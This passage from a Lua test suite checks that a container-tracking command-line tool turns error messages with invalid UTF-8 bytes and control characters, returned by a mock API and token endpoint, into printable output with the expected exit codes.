      assert.are.equal("A\\xc0\\xaf\\xed\\xa0\\x80\240\159\152\128\195\169\194\160"
        .. "\\xf4\\x90\\x80\\x80\\xe0\\x80\\x80\\x1b: invalid: must be 11 characters long\n", r.out)
    end)

    it("error messages from the API and the token endpoint are made printable", function()
      local api_error = '{"status":"BadRequest","code":"R9' .. NASTY_SHORT .. '","message":"bad'
        .. NASTY_SHORT .. '"}'
      local token_error = '{"error":"invalid' .. NASTY_SHORT .. '","error_description":"no'
        .. NASTY_SHORT .. '"}'
      srv:handle("local API, TOKEN, TERR = " .. lit(api_error) .. ", " .. lit(TOKEN_BODY) .. ", "
        .. lit(token_error) .. "\n"
        .. "return function(req)\n"
        .. "  if req.path == '/token' then\n"
        .. "    if req.args.fail then return 401, TERR end\n"
        .. "    return 200, TOKEN\n"
        .. "  end\n"
        .. "  if req.args.reference == 'BUSY' then return 503, API end\n"
        .. "  return 400, API\n"
        .. "end\n")
      local runs = {
        cli.run({ "--retries", "0", "track", "CGMU2436601" }, { env = env }),
        cli.run({ "--retries", "0", "find", "CGMU" }, { env = env }),
        cli.run({ "--retries", "0", "watch", "CGMU2436601", "--count", "1" }, { env = env }),
        cli.run({ "--retries", "0", "watch", "BUSY", "--count", "2", "--every", "0.1" }, { env = env }),
        cli.run({ "--retries", "0", "-v", "track", "CGMU2436601" },
          { env = { SOGET_BASE_URL = env.SOGET_BASE_URL, SOGET_TOKEN_URL = env.SOGET_TOKEN_URL .. "?fail=1" } }),
        cli.run({ "--retries", "0", "bulk", "-" }, { env = env, stdin = "CGMU2436601\n" }),
      }
      local codes = { 6, 6, 6, 6, 4, 6 }   -- watch BUSY: every poll failed, the last one's code
      for i, r in ipairs(runs) do
        assert.are.equal(codes[i], r.code, "run " .. i .. ": " .. r.err)
        assert_printable(r.err, "stderr of run " .. i)
        assert_printable(r.out, "stdout of run " .. i)
      end
      for _, i in ipairs { 1, 2, 3, 4 } do
        assert_shows(runs[i].err, "run " .. i, { "bad" .. VISIBLE_SHORT })
      end
      assert_shows(runs[5].err, "the token error", { "invalid" .. VISIBLE_SHORT, "no" .. VISIBLE_SHORT })
      assert.truthy(runs[4].err:find("temporary failure, will retry: ", 1, true), runs[4].err)
      assert_shows(runs[6].out, "bulk's error cell", { "bad" .. VISIBLE_SHORT })
    end)
  end)
end)
